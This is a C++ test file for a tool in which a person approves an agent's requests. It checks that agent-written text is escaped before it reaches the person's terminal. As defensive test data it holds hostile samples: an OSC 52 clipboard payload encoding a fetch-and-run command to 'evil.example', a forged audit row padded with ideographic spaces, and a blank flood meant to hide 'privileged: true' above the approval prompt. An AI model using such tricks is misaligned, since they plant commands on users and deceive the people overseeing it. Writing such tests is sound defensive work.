// Issue 45, item 2: one escaping rule (display/visible.hpp) for every path by
// which text the agent wrote reaches a person's screen. The rows of the
// issue's table (a forged `last state`, a `.stuck-` name padded with U+3000
// into a forged audit row, a blank flood that pushes `privileged: true` off
// the screen above approve's question) and a property test: one generator
// of hostile strings fed into request, audit (table and JSON), doctor,
// approve, list, allow and deny, each run on a real pseudo-terminal, and
// the bytes the terminal received checked.
#include <gtest/gtest.h>

#include <array>
#include <cstdint>
#include <string>
#include <vector>

#include "admin/util/change_view.hpp"
#include "common/audit_log.hpp"
#include "display/visible.hpp"
#include "tests/cli/cli_harness.hpp"
#include "tests/support/hostile_text.hpp"

namespace hb::test {
namespace {

const std::string kIdeographic = utf8_of(0x3000);

#define EXPECT_CLEAN(shown, where)                                                   \
    do {                                                                             \
        const std::string why_ = offence(shown);                                     \
        EXPECT_TRUE(why_.empty()) << (where) << ": " << why_ << "\n"                 \
                                  << display::visible_text((shown).substr(0, 4000)); \
    } while (0)

// The rows a terminal `width` columns wide shows for `shown` (a pty's
// output: "\r\n" line ends): U+3000 and the CJK blocks two columns, a
// wide character that does not fit moved to the next row.
std::vector<std::string> screen_rows(const std::string& shown, std::size_t width) {
    std::vector<std::string> rows(1);
    std::size_t col = 0;
    for (std::size_t i = 0; i < shown.size();) {
        const Cp d = decode_at(shown, i);
        const std::size_t len = d.len == 0 ? 1 : d.len;
        if (shown[i] == '\n') {
            rows.emplace_back();
            col = 0;
        } else if (shown[i] != '\r') {
            const std::size_t w =
                (d.cp >= 0x1100 && d.cp <= 0x115f) || (d.cp >= 0x2e80 && d.cp <= 0xa4cf) ||
                        (d.cp >= 0xac00 && d.cp <= 0xd7a3) || (d.cp >= 0xff00 && d.cp <= 0xff60)
                    ? 2
                    : 1;
            if (col + w > width) {
                rows.emplace_back();
                col = 0;
            }
            rows.back() += shown.substr(i, len);
            col += w;
        }
        i += len;
    }
    return rows;
}

class ScreenEscapes : public ::testing::Test {
  protected:
    void SetUp() override {
        Ran run = home.hostbridge(install_args(project, {"--no-systemd"}));
        ASSERT_EQ(run.code, 0) << run.out << run.err;
    }
    // `hostbridge ARGS` on a terminal; everything it showed.
    std::string on_a_terminal(const std::vector<std::string>& args) const {
        Interactive terminal(home.command(args));
        terminal.finish();
        return terminal.shown();
    }
    // `hostbridge request --timeout 2 status` on a terminal while the agent
    // takes the request out of requests/ (the drain never sees it) and
    // answers it with `state`; everything the person's terminal showed.
    std::string request_with_forged_state(const std::string& state) const {
        Interactive terminal(
            home.command({"request", "--project-dir", project.dir, "--timeout", "2", "status"}));
        const std::string name = wait_for_json(project.spool() + "/requests");
        EXPECT_FALSE(name.empty());
        if (name.empty()) return "";
        std::filesystem::rename(project.spool() + "/requests/" + name,
                                project.spool() + "/tmp/stolen-" + name);
        publish_response(project.spool(), name,
                         nlohmann::json({{"state", state}, {"request", name}})
                             .dump(-1, ' ', false, nlohmann::json::error_handler_t::replace));
        terminal.finish();
        return terminal.shown();
    }
    TempDir root{"screen"};
    Home home{root.path()};
    Project project{root.path(), "demo-app"};
};

TEST(VisibleRule, BlanksMarksAndBidiAreEscapedAndARunIsCounted) {
    EXPECT_EQ(display::visible("a" + kIdeographic + "b"), "a\\u3000b");
    EXPECT_EQ(display::visible(utf8_of(0xa0) + utf8_of(0x2800) + utf8_of(0x2007) + utf8_of(0x3164)),
              "\\u00a0\\u2800\\u2007\\u3164");
    EXPECT_EQ(display::visible("e" + utf8_of(0x0301) + utf8_of(0x20dd)), "e\\u0301\\u20dd");
    EXPECT_EQ(display::visible(utf8_of(0x200e) + utf8_of(0x2067)), "\\u200e\\u2067");
    // A flood is shown once with its count; three stay as they are.
    EXPECT_EQ(display::visible("x" + repeated(kIdeographic, 30000) + "y"), "x\\u3000{x30000}y");
    EXPECT_EQ(display::visible(repeated("\x1b", 3)), "\\x1b\\x1b\\x1b");
    EXPECT_EQ(display::visible_text("a\n\n\n\n\nb"), "a\n\n\n\n\nb");  // lines stay lines
    // A table cell: a space after a blank of any kind is escaped.
    EXPECT_EQ(display::table_cell("a " + kIdeographic + " b  c"), "a \\u3000\\x20b \\x20c");
    // JSON: the same value, nothing raw, no run shortened.
    const std::string json = "{\"r\":\"" + repeated(kIdeographic, 5) + utf8_of(0x0301) + "\"}";
    EXPECT_EQ(display::visible_json(json),
              "{\"r\":\"\\u3000\\u3000\\u3000\\u3000\\u3000\\u0301\"}");
    EXPECT_EQ(nlohmann::json::parse(display::visible_json(json))["r"],
              repeated(kIdeographic, 5) + utf8_of(0x0301));
    // A blank or a mark is escaped in approve's diff but is no reason for a hex dump.
    EXPECT_TRUE(display::is_plain_text("v" + kIdeographic + "\n"));
    EXPECT_FALSE(display::is_plain_text("v" + utf8_of(0x202e) + "\n"));
}

TEST(VisibleRule, OnlyAKnownWordPassesAsItself) {
    const std::array<std::string_view, 2> known = {"queued", "done"};
    EXPECT_EQ(display::word("queued", known), "queued");
    EXPECT_EQ(display::word("done ", known), "?\"done \"");
    EXPECT_EQ(display::word("a\"b\x1b", known), "?\"a\\x22b\\x1b\"");
    EXPECT_LE(display::word(std::string(1000, 'q'), known).size(), 64u + 3u);
    for (const std::string& s : hostile_strings()) EXPECT_EQ(offence(display::word(s, known)), "");
}

// Row 1 of the table: the agent takes the person's request out of
// requests/ and answers it with a non-final state that carries an OSC 52
// clipboard write, an erase-line and a title. `hostbridge request` said
// "(last state: S)" with S raw.
TEST_F(ScreenEscapes, AForgedLastStateReachesThePersonsTerminalEscaped) {
    const std::string shown = request_with_forged_state(
        "queued\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2h8c2g=\x07\x1b[2K\r\x1b[1A\x1b[2Kall good "
        "\x1b]0;pwned\x07");
    EXPECT_CLEAN(shown, "hostbridge request");
    EXPECT_TRUE(contains(shown, "(last state: ?\"queued\\x1b]52;c;"))
        << display::visible_text(shown);
}

// Row 5: a directory `.stuck-<U+3000 padding><a row>` in requests/. Its
// name went raw into the batch event's REASON, and U+3000 passed the
// table's cell rule, so a terminal COLS wide wrapped the padding and showed
// the forged `succeeded down exit 0` row on a line of its own.
TEST_F(ScreenEscapes, AStuckNamePaddedWithBlanksCannotLineUpARowInAudit) {
    const auto gap = [](std::size_t g) {
        return g % 2 ? " " + repeated(kIdeographic, (g - 1) / 2) : repeated(kIdeographic, g / 2);
    };
    const std::string ts = "2026-12-07T03:46:11.901Z";
    for (const std::size_t width : {80u, 120u, 240u}) {
        const std::array<std::pair<std::string, std::size_t>, 7> cells = {{
            {ts, 25},
            {"succeeded", 11},
            {"20261207T034611Z-down-0123456789abcdef.json", 52},
            {"down", 12},
            {"-", 12},
            {"exit 0", 8},
            {"2.1 s", 9},
        }};
        std::string row;
        for (const auto& [text, w] : cells) row += text + gap(w - text.size() + 2);
        row += "-";
        // Where the reason starts: the columns before it and the reason's text.
        const std::size_t start =
            25 + 2 + 11 + 2 + 52 + 2 + 12 + 2 + 12 + 2 + 8 + 2 + 9 + 2 +
            std::string(
                "1 .stuck-* entries moved from requests/ to quarantine/ in one batch "
                "(first: .stuck-")
                .size();
        const std::string name = ".stuck-" + gap((width - start % width) % width) + row;
        ASSERT_LE(name.size(), 255u);
        std::filesystem::create_directory(project.spool() + "/requests/" + name);
        const std::string ping = drop_request(project.spool(), "ping");
        ASSERT_EQ(run_drain_until_answered(exec_start_of(home, "demo-app"), project.spool(), ping)
                      .response["state"],
                  "done");
        // The log keeps the name escaped, as it keeps `request`.
        const std::string log = read_file(home.state_dir("demo-app") + "/audit.jsonl");
        EXPECT_FALSE(contains(log, kIdeographic)) << width;
        EXPECT_TRUE(contains(log, "\\\\xe3\\\\x80\\\\x80")) << width;

        const std::string shown = on_a_terminal({"audit", "--slug", "demo-app"});
        EXPECT_CLEAN(shown, "audit");
        for (const std::string& screen_row : screen_rows(shown, width)) {
            // A row that starts with the forged time and blank columns
            // after it, as the table pads a cell, is the forgery.
            if (!screen_row.starts_with(ts)) continue;
            const std::string after = screen_row.substr(ts.size());
            EXPECT_FALSE(after.starts_with("  ") || after.starts_with(" " + kIdeographic) ||
                         after.starts_with(kIdeographic))
                << width << " columns:\n"
                << display::visible_text(shown);
        }
    }
    EXPECT_EQ(home.hostbridge({"audit", "--slug", "demo-app", "--verify"}).code, 0);
}

// Row 10: `privileged: true` followed by an environment value ending in
// 30,000 U+3000, each two columns of nothing: on a 200 x 50 terminal the
// privileged line stood some 250 screen lines above approve's [y/N]. With
// a bidi control in the value too, the file is not plain text and approve
// adds a hex dump of the changed bytes, 5,625 rows of the flood unfolded.
TEST_F(ScreenEscapes, ABlankFloodCannotPushAChangeOffTheScreenAboveApprovesQuestion) {
    const std::string original = read_file(project.compose);
    for (const std::string& tail : {std::string(), utf8_of(0x202e)}) {
        std::string compose = original;
        const std::string web = "  web:\n";
        const auto at = compose.find(web);
        ASSERT_NE(at, std::string::npos);
        compose.insert(at + web.size(),
                       "    privileged: true\n    environment:\n      - LOG_LEVEL=info" +
                           repeated(kIdeographic, 30000) + tail + "\n");
        write_file(project.compose, compose, 0644);
        const Prompted asked =
            home.hostbridge_on_a_terminal({"approve", "--slug", "demo-app"}, "n\n");
        const auto question = asked.shown.find("[y/N]");
        ASSERT_NE(question, std::string::npos) << display::visible_text(asked.shown);
        const std::string before = asked.shown.substr(0, question);
        EXPECT_CLEAN(before, "approve");
        const std::vector<std::string> rows = screen_rows(before, 200);
        std::size_t last_privileged = 0;
        for (std::size_t i = 0; i < rows.size(); ++i)
            if (contains(rows[i], "privileged: true")) last_privileged = i + 1;
        ASSERT_GT(last_privileged, 0u) << display::visible_text(before);
        EXPECT_LT(rows.size() - last_privileged, 50u)
            << "privileged: true is " << rows.size() - last_privileged
            << " rows above the question:\n"
            << display::visible_text(before.substr(0, 20000));
        EXPECT_TRUE(contains(before, "LOG_LEVEL=info\\u3000{x30000}"))
            << display::visible_text(before.substr(0, 20000));
    }
}

TEST(ChangeViewFold, RowsThatRepeatTheRowsAboveThemAreOneLine) {
    const std::string data = "head" + repeated(kIdeographic, 1000) + "tail";
    const std::string shown = admin::hex_dump('+', data, 0, data.size());
    EXPECT_LT(split_lines(shown).size(), 12u) << shown;
    EXPECT_TRUE(contains(shown, "+ *         (")) << shown;
    EXPECT_TRUE(contains(shown, "repeat the 3 rows above them)")) << shown;
    EXPECT_TRUE(contains(shown, "tail|")) << shown;  // the rows after the flood stay
    // A dump without repeats is unchanged: each row its own line.
    const std::string plain = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    EXPECT_EQ(split_lines(admin::hex_dump('+', plain, 0, plain.size())).size(), 4u);
}

// The property: every hostile string, through every path of the admin
// tool and the host's request client that shows the agent's text, reaches
// the terminal with nothing raw.
TEST_F(ScreenEscapes, EveryHostileStringReachesEveryScreenEscaped) {
    const std::vector<std::string> hostile = hostile_strings();
    std::string all;
    for (const std::string& s : hostile)
        if (s.size() < 4096) all += s;

    // Nothing raw, and the agent's text did reach the screen, escaped.
    const auto check = [](const std::string& shown, const std::string& where) {
        EXPECT_CLEAN(shown, where);
        EXPECT_TRUE(contains(shown, "\\x1b]52") || contains(shown, "\\u202e"))
            << where << " showed none of the agent's text:\n"
            << display::visible_text(shown.substr(0, 4000));
    };

    // request: a forged last state, then a forged final answer's reason and output.
    check(request_with_forged_state(all), "request (last state)");
    {
        Interactive terminal(
            home.command({"request", "--project-dir", project.dir, "--timeout", "30", "status"}));
        const std::string name = wait_for_json(project.spool() + "/requests");
        ASSERT_FALSE(name.empty());
        nlohmann::json forged = {{"request", name},
                                 {"state", "failed"},
                                 {"exit_code", 1},
                                 {"reason", all},
                                 {"output", all + hostile.back()}};
        publish_response(project.spool(), name,
                         forged.dump(-1, ' ', false, nlohmann::json::error_handler_t::replace));
        terminal.finish();
        check(terminal.shown(), "request (answer)");
    }

    // audit and list: every field of an event holds a hostile string (an
    // event's text is the agent's wherever it quotes a name or a reason).
    {
        auto log = common::AuditLog::open(home.state_dir("demo-app"));
        ASSERT_TRUE(log) << log.error().message;
        for (const std::string& s : hostile) {
            common::AuditRecord record;
            record.event = common::AuditEvent::Quarantined;
            const std::string cut = s.substr(0, 8192);
            record.request = cut;
            record.arg = cut;
            record.reason = cut;
            ASSERT_TRUE(log->append(record));
            // A service that ran, as `policy suggest` reads the log.
            common::AuditRecord ran;
            ran.event = common::AuditEvent::Succeeded;
            ran.request = "20261207T000000Z-restart-0123456789abcdef.json";
            ran.verb = hb::Verb::Restart;
            ran.arg = cut;
            ran.exit_code = 0;
            ASSERT_TRUE(log->append(ran));
        }
    }
    check(on_a_terminal({"audit", "--slug", "demo-app"}), "audit");
    check(on_a_terminal({"audit", "--slug", "demo-app", "--json"}), "audit --json");
    check(on_a_terminal({"audit", "--all"}), "audit --all");
    // policy suggest names only what it counts as ran (none of these).
    EXPECT_CLEAN(on_a_terminal({"policy", "suggest", "--slug", "demo-app"}), "policy suggest");
    EXPECT_CLEAN(on_a_terminal({"list"}), "list");

    // allow and deny quote the name they were given (the generator's
    // kinds, not its mixes: each is a run of the tool); pending lists none.
    for (const std::string& s : hostile_strings(0)) {
        if (s.find('\0') != std::string::npos || s.size() > 4096) continue;
        EXPECT_CLEAN(on_a_terminal({"allow", "--slug", "demo-app", s}), "allow");
        EXPECT_CLEAN(on_a_terminal({"deny", "--slug", "demo-app", s, "--reason", "r"}), "deny");
    }
    EXPECT_CLEAN(on_a_terminal({"pending", "--slug", "demo-app"}), "pending");

    // pending: a held build shows its Containerfile (the agent's, screened
    // when held: engines/build_input/build_input.cpp). The screen refuses a control
    // character, a Unicode space and invalid UTF-8 in it; what it lets
    // through (bidi controls, zero-width characters, combining marks) is
    // shown escaped.
    {
        std::string containerfile = "FROM scratch\n";
        for (const char* s : {"\xe2\x80\xae", "\xe2\x81\xa6", "\xe2\x80\x8b", "\xe2\x80\x8f",
                              "e\xcc\x81\xcc\x81\xcc\x81", "\xef\xbb\xbf"})
            containerfile += "# before " + std::string(s) + " after\nLABEL n=\"" + s + "\"\n";
        containerfile += "COPY index.html /www/\n";
        write_file(project.dir + "/web/Containerfile", containerfile);
        write_file(project.dir + "/web/index.html", "<h1>web</h1>\n");
        ASSERT_EQ(
            home.hostbridge(install_args(project, {"--no-systemd", "--build-context", "web=web"}))
                .code,
            0);
        const std::string name = drop_request(project.spool(), "rebuild", "web");
        const Drained d =
            run_drain_until_answered(exec_start_of(home, "demo-app"), project.spool(), name);
        ASSERT_EQ(d.response.value("state", ""), "pending") << d.response.dump() << d.log;
        check(on_a_terminal({"pending", "--slug", "demo-app"}), "pending (a held build)");
    }

    // doctor: planted names in requests/ and a changed trusted file;
    // approve: the same file's diff.
    for (const std::string& s : hostile) {
        std::string name = ".stuck-" + s.substr(0, 200);
        std::replace(name.begin(), name.end(), '/', '_');
        if (name.find('\0') != std::string::npos) name.erase(name.find('\0'));
        write_file(project.spool() + "/requests/" + name, "{}");
    }
    std::string stack = read_file(project.stack);
    for (const std::string& s : hostile) stack += "# " + s + "\n";
    write_file(project.stack, stack, 0755);
    check(on_a_terminal({"doctor", "--slug", "demo-app"}), "doctor");
    check(home.hostbridge_on_a_terminal({"approve", "--slug", "demo-app"}, "n\n").shown, "approve");

    // audit --verify quotes the line it stops at: a line of the agent's
    // bytes (as a torn write could leave one) breaks the chain last.
    std::string line = all.substr(0, 16384);
    std::replace(line.begin(), line.end(), '\n', ' ');
    append_file(home.state_dir("demo-app") + "/audit.jsonl", line + "\n");
    EXPECT_CLEAN(on_a_terminal({"audit", "--slug", "demo-app", "--verify"}), "audit --verify");
}

}  // namespace
}  // namespace hb::test
